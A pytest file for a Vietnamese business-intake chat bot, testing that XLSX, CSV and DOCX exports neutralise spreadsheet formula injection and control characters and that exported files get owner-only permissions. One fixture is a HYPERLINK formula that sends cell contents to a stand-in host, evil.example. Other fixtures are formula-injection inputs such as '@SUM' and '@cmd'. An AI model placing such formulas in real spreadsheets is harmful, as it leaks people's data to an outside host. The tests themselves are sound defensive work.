"""What a user types can't turn a staff spreadsheet into a weapon or block their request;
the files the bot writes are readable by their owner only."""

from __future__ import annotations

import argparse
import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import App
from bot.cli_drafts import cmd_export
from db.files import safe_cell, strip_control
from db.session import create_engine
from handlers.intake.document import build_request_docx
from tests.auxil.app import ChatUser
from tests.auxil.intake import open_intake

HYPERLINK = '=HYPERLINK("http://evil.example/?"&G2&H2,"Mở hồ sơ")'
CONTROL = "Cơ sở\x01 mây tre\x1b Minh Phát"


async def intake_with_name(user: ChatUser, facility: str, *, confirm: bool = True) -> None:
    """The intake as an owner goes through it, with ``facility`` as the facility's name."""
    await user.send("/start")
    await open_intake(user)
    await user.tap("Máy móc")
    await user.tap("Hộ kinh doanh")
    await user.tap("Thủ công mỹ nghệ")
    await user.send("quang ngai")
    await user.tap("Quảng Ngãi")
    await user.send("xa nghia hanh")
    await user.tap("Nghĩa Hành")
    await user.send(facility)
    if not confirm:
        return
    await user.send("0123456789")
    await user.send("Nguyen Van An")
    await user.send("0912 345 678")
    await user.send("+1+1")
    await user.send("12")
    await user.send("@SUM(A1:A9)")
    await user.send("350 trieu")
    await user.send("200tr")
    await user.send("-2+3 tang nang suat")
    assert "Xem lại hồ sơ" in user.text
    await user.tap("Xác nhận")


def ns(**values) -> argparse.Namespace:
    return argparse.Namespace(**{"status": None, **values})


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def test_hostile_names_are_inert_in_every_export(app: App, tmp_path: Path):
    await intake_with_name(ChatUser(app, chat_id="1"), HYPERLINK)
    # The control character neither blocks «Xác nhận» (the DOCX builds) ...
    owner = ChatUser(app, chat_id="2")
    await intake_with_name(owner, CONTROL)
    assert "Đã lưu hồ sơ" in owner.text and "trục trặc" not in owner.text
    assert any(r.document is not None for r in owner.last)
    # ... nor an export of everything, unfinished drafts included.
    await intake_with_name(ChatUser(app, chat_id="3"), "=1+1\x02", confirm=False)

    xlsx = tmp_path / "out" / "drafts.xlsx"
    assert await cmd_export(ns(file=xlsx, status="all"), app.settings) == 0
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HYPERLINK in values
    assert "'+1+1" in values and "'@SUM(A1:A9)" in values and "'-2+3 tang nang suat" in values
    assert "Cơ sở mây tre Minh Phát" in values and "'=1+1" in values
    assert not any(strip_control(v) != v for v in values)

    out_csv = tmp_path / "drafts.csv"
    assert await cmd_export(ns(file=out_csv, status="all"), app.settings) == 0
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 3
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["facility_name"] == "'" + HYPERLINK and rows[0]["products"] == "'+1+1"
    assert rows[0]["plan"] == "'@SUM(A1:A9)"

    # Exports are for their owner's eyes only (and the folder made for them).
    assert _mode(xlsx) == 0o600 and _mode(out_csv) == 0o600
    assert _mode(xlsx.parent) == 0o700


def test_docx_builds_with_control_characters():
    data = {"id": 7, "facility_name": CONTROL, "owner_name": "An\x00", "plan": "máy\x0bmới"}
    content = build_request_docx(data, centre_name="Trung tâm\x07 Khuyến công")
    from docx import Document

    text = "\n".join(p.text for p in Document(io.BytesIO(content)).paragraphs)
    assert "Cơ sở mây tre Minh Phát" in text and "\x01" not in text


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'=1"),
        ("\x01=1", "'=1"),
        ("Hộ kinh doanh", "Hộ kinh doanh"),
        ("dòng 1\ndòng 2\tb", "dòng 1\ndòng 2\tb"),
        (350_000_000, 350_000_000),
        (None, None),
    ],
)
def test_safe_cell(typed, cell):
    assert safe_cell(typed) == cell


async def test_sqlite_file_and_folder_are_private(tmp_path: Path):
    url = f"sqlite+aiosqlite:///{tmp_path}/data/sub/kc.sqlite3"
    engine = create_engine(url)
    try:
        async with engine.begin() as conn:
            from sqlalchemy import text

            await conn.execute(text("CREATE TABLE t (x INTEGER)"))
    finally:
        await engine.dispose()
    db = tmp_path / "data" / "sub" / "kc.sqlite3"
    assert _mode(db) == 0o600
    assert _mode(db.parent) == 0o700 and _mode(db.parent.parent) == 0o700
    for extra in db.parent.glob("kc.sqlite3-*"):  # WAL and shared memory follow the file
        assert _mode(extra) == 0o600, extra.name


def test_file_mode_setting(tmp_path: Path):
    env = {
        "KCBOT_DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path}/shared/kc.sqlite3",
        "KCBOT_FILE_MODE": "640",
        "PATH": os.environ.get("PATH", ""),
    }
    result = subprocess.run(
        [sys.executable, "-m", "bot.cli", "db", "upgrade"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert _mode(tmp_path / "shared" / "kc.sqlite3") == 0o640
    assert _mode(tmp_path / "shared") == 0o750


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
async def test_faq_export_is_inert_and_reads_back(tmp_path: Path, suffix: str):
    from dataclasses import replace
    from types import SimpleNamespace

    from bot.cli_kb import cmd_export, cmd_import
    from knowledge.content import load_entries, write_entries

    entries = load_entries()
    entries[0] = replace(entries[0], answer=HYPERLINK)
    data_dir = tmp_path / "data"
    write_entries(entries, data_dir)
    settings = SimpleNamespace(kb_path=data_dir, file_mode_bits=0o600)
    sheet = tmp_path / f"faq{suffix}"
    assert await cmd_export(argparse.Namespace(file=sheet, json=False), settings) == 0
    assert _mode(sheet) == 0o600
    if suffix == ".xlsx":
        book = load_workbook(sheet)
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        values = [c.value for c in cells if isinstance(c.value, str)]
    else:
        with sheet.open(encoding="utf-8-sig", newline="") as fh:
            values = [v for row in csv.reader(fh) for v in row]
    assert "'" + HYPERLINK in values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    # Read back, the content is what it was (the quote is the export's, not the text's).
    assert await cmd_import(argparse.Namespace(file=sheet), settings) == 0
    assert sorted(load_entries(data_dir), key=lambda e: e.id) == sorted(entries, key=lambda e: e.id)
